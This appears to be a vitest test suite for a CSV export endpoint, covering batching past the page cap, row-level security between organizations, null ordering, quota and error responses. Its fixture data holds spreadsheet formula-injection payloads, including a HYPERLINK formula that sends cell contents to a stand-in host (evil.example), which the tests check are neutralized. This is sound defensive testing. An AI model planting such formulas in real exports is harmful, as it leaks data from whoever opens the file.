// Exporting a list as CSV (GET /functions/v1/export/<table>, src/rest/export.ts): every matching
// row in one request, past the REST page cap, under the caller's own row-level security, with the
// filters and order /rest/v1 takes, spreadsheet formulas neutralized; refusals in the one error body.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SERVICE } from '../../src/platform/db/database.ts';
import { orgOf, type Session, signUp } from '../helpers/http.ts';
import { startTestService, type TestService } from '../helpers/service.ts';

let svc: TestService;
let owner: Session;
let stranger: Session;

beforeAll(async () => {
  svc = await startTestService();
  owner = await signUp(svc, 'Export Ltd');
  stranger = await signUp(svc, 'Other Export Ltd');
  await svc.services.db.asPrincipal(SERVICE, async (tx) => {
    await tx.query("update public.organizations set plan = 'growth' where id = any($1::uuid[])", [
      [orgOf(owner), orgOf(stranger)],
    ]);
    // 1,250 rows: more than one batch of the export (1,000) and far past a REST page (100); a
    // third of them without an email, so an order by email crosses from values to nulls.
    await tx.query(
      `insert into public.contacts (organization_id, first_name, email, tags, created_at)
       select $1::uuid, 'Person ' || lpad(i::text, 4, '0'),
              case when i % 3 = 0 then null else 'p' || lpad(i::text, 4, '0') || '@example.com' end,
              case when i % 2 = 0 then array['even'] else array['odd'] end,
              now() - (i || ' seconds')::interval
         from generate_series(1, 1250) i`,
      [orgOf(owner)],
    );
    await tx.query(
      `insert into public.contacts (organization_id, first_name, last_name, company, notes) values
         ($1, '=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+1', '@SUM(A1:A2)', '-2+3'),
         ($1, 'Plain, with comma', 'O''Brien', 'Say "hi"', 'ünïcødé ✓'),
         ($2, 'Theirs', 'Stranger', 'Elsewhere', null)`,
      [orgOf(owner), orgOf(stranger)],
    );
  });
});
afterAll(() => svc?.stop());

const exportOf = (query: string, token: string | null = owner.access_token) =>
  fetch(`${svc.url}/functions/v1/export/${query}`, {
    headers: { apikey: svc.anonKey, ...(token ? { authorization: `Bearer ${token}` } : {}) },
  });

/** The file's lines after its byte order mark (which Response.text() would drop unseen). */
async function linesOf(res: Response): Promise<string[]> {
  const bytes = Buffer.from(await res.arrayBuffer());
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return bytes.subarray(3).toString('utf8').split('\n');
}

describe('GET /functions/v1/export/<table>', () => {
  it('answers every matching row in one file, past the page cap, as an attachment', async () => {
    const res = await exportOf('contacts?select=first_name,email&tags=cs.{even}&order=first_name.asc');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(res.headers.get('content-disposition')).toMatch(
      /^attachment; filename="contacts-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(res.headers.get('x-total-count')).toBe('625');
    const lines = await linesOf(res);
    expect(lines[0]).toBe('first_name,email');
    const rows = lines.slice(1);
    // Every even person once, in order, across the batch boundary at 1,000 rows.
    expect(rows).toHaveLength(625);
    const expected = Array.from({ length: 625 }, (_, k) => {
      const i = String(2 * (k + 1)).padStart(4, '0');
      return `"Person ${i}",${(2 * (k + 1)) % 3 === 0 ? '' : `p${i}@example.com`}`;
    });
    expect(rows).toEqual(expected);
  });

  it('orders by a column with nulls across batches: values, then the rows without one, each once', async () => {
    for (const dir of ['asc', 'desc'] as const) {
      const res = await exportOf(`contacts?select=id,email&first_name=like.Person*&order=email.${dir}`);
      expect(res.status).toBe(200);
      const rows = (await linesOf(res)).slice(1).map((l) => l.split(','));
      expect(rows).toHaveLength(1250);
      expect(new Set(rows.map(([id]) => id)).size).toBe(1250);
      const emails = rows.map(([, e]) => e);
      const withEmail = emails.filter((e) => e !== '');
      expect(withEmail).toHaveLength(834);
      const sorted = [...withEmail].sort();
      if (dir === 'asc') {
        expect(emails.slice(0, 834)).toEqual(sorted);
        expect(emails.slice(834).every((e) => e === '')).toBe(true);
      } else {
        expect(emails.slice(0, 416).every((e) => e === '')).toBe(true);
        expect(emails.slice(416)).toEqual(sorted.reverse());
      }
    }
  });

  it('never holds another organization’s rows', async () => {
    const mine = (await linesOf(await exportOf('contacts?select=first_name'))).join('\n');
    expect(mine).not.toContain('Theirs');
    const theirs = await linesOf(
      await exportOf('contacts?select=first_name,last_name', stranger.access_token),
    );
    expect(theirs).toEqual(['first_name,last_name', 'Theirs,Stranger']);
  });

  it('puts an apostrophe before text cells a spreadsheet would run as a formula', async () => {
    const res = await exportOf(
      'contacts?select=first_name,last_name,company,notes&first_name=not.like.Person*&order=first_name.asc',
    );
    const lines = await linesOf(res);
    expect(lines).toEqual([
      'first_name,last_name,company,notes',
      // PostgreSQL's record text quotes a value with a parenthesis, a comma, a quote or a space.
      `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",'+1+1,"'@SUM(A1:A2)",'-2+3`,
      `"Plain, with comma",O'Brien,"Say ""hi""","ünïcødé ✓"`,
    ]);
  });

  it('neutralizes text columns only: a number is written as it is', async () => {
    await svc.services.db.asPrincipal(SERVICE, (tx) =>
      tx.query(
        `insert into public.orders (organization_id, order_number, customer_name, total)
         values ($1, 'ORD-REFUND', '-Refund', 0)`,
        [orgOf(owner)],
      ),
    );
    const lines = await linesOf(
      await exportOf('orders?select=order_number,customer_name,total&order=order_number.asc'),
    );
    // The number is the service's own (ORD- and digits), the total the sum of the lines.
    expect(lines).toEqual(['order_number,customer_name,total', "ORD-000001,'-Refund,0.00"]);
  });

  it('answers the header row alone when nothing matches', async () => {
    const res = await exportOf('contacts?select=first_name,email&first_name=eq.Nobody');
    expect(res.status).toBe(200);
    expect(await linesOf(res)).toEqual(['first_name,email']);
  });

  it('is one call against the day’s quota', async () => {
    const used = async () => {
      const r = await fetch(`${svc.url}/functions/v1/agent-usage`, {
        headers: { apikey: svc.anonKey, authorization: `Bearer ${owner.access_token}` },
      });
      return ((await r.json()) as { usage: { api_calls_per_day: { used: number } } }).usage.api_calls_per_day
        .used;
    };
    const before = await used();
    await (await exportOf('contacts?select=id')).text();
    // The export, then the usage call that reads the count.
    expect(await used()).toBe(before + 2);
  });

  it('is described in the OpenAPI document the service serves', async () => {
    const doc = (await (await fetch(`${svc.url}/openapi.json`)).json()) as {
      paths: Record<string, { get?: { responses: Record<string, { content?: Record<string, unknown> }> } }>;
    };
    const op = doc.paths['/functions/v1/export/{table}']?.get;
    expect(op?.responses['200']?.content).toHaveProperty(['text/csv']);
    expect(Object.keys(op?.responses ?? {})).toEqual(expect.arrayContaining(['400', '401', '404', '413']));
  });

  it('refuses without a token: 401', async () => {
    const res = await exportOf('contacts?select=id', null);
    expect(res.status).toBe(401);
    const body = await res.json();
    expect(body).toMatchObject({ error: expect.any(String), message: expect.any(String), details: {} });
  });

  it('refuses a bad filter, an unknown column, an order it cannot page and a limit: 400 with the error body', async () => {
    for (const query of [
      'contacts?first_name=wat.x',
      'contacts?nope=eq.1',
      'contacts?order=notes.asc',
      'contacts?order=first_name.asc.nullsfirst',
      'contacts?limit=10',
      'orders?total=gt.not-a-number',
    ]) {
      const res = await exportOf(query);
      expect(res.status, query).toBe(400);
      const body = await res.json();
      expect(body, query).toMatchObject({
        error: 'validation_error',
        message: expect.any(String),
        details: expect.any(Object),
      });
    }
    const other = await exportOf('plans');
    expect(other.status).toBe(404);
    expect(await other.json()).toMatchObject({ error: 'not_found', details: { table: 'plans' } });
  });
  it('exports rows that share the sort value each once, across batches', async () => {
    // Run last: it gives the other organization 1,100 more contacts, all named alike.
    await svc.services.db.asPrincipal(SERVICE, (tx) =>
      tx.query(
        `insert into public.contacts (organization_id, first_name, created_at)
         select $1::uuid, 'Same', now() - (i % 3 || ' seconds')::interval from generate_series(1, 1100) i`,
        [orgOf(stranger)],
      ),
    );
    for (const order of ['first_name.asc', 'first_name.desc', 'created_at.asc']) {
      const rows = (
        await linesOf(await exportOf(`contacts?select=id,first_name&order=${order}`, stranger.access_token))
      )
        .slice(1)
        .map((l) => l.split(','));
      expect(rows, order).toHaveLength(1101);
      expect(new Set(rows.map(([id]) => id)).size, order).toBe(1101);
    }
  });
});
